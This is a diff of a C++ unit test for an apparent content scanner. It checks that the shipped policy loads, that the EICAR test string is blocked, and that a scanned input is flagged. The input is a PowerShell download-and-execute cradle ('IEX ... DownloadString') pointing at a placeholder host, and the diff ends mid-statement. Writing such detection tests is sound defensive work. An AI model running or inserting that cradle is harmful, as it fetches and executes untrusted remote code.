@@ -209,11 +209,11 @@ TEST(ContentPolicy, TheShippedOneLoadsCompilesAndKnowsTheTestFile) {
     const auto loaded = load::load_content_policy_file(SLUICE_DATA_DIR "/content.yaml");
     for (const auto& d : loaded.diagnostics)
         ADD_FAILURE() << to_text(d);
-    for (const auto& signature : loaded.policy.signatures)
+    for (const auto& signature : loaded.value.signatures)
         EXPECT_FALSE(signature.source.empty()) << signature.id;
-    const auto rules = Rules::compile(loaded.policy);
+    const auto rules = Rules::compile(loaded.value);
     ASSERT_TRUE(rules);
-    const std::string eicar = loaded.policy.signatures[0].bytes;
+    const std::string eicar = loaded.value.signatures[0].bytes;
     EXPECT_EQ(eicar.size(), 68u);
     EXPECT_TRUE(scan(**rules, "gzip", gzip(eicar)).blocked);
     EXPECT_EQ(scan(**rules, "", "IEX (New-Object Net.WebClient).DownloadString('http://x')").what,
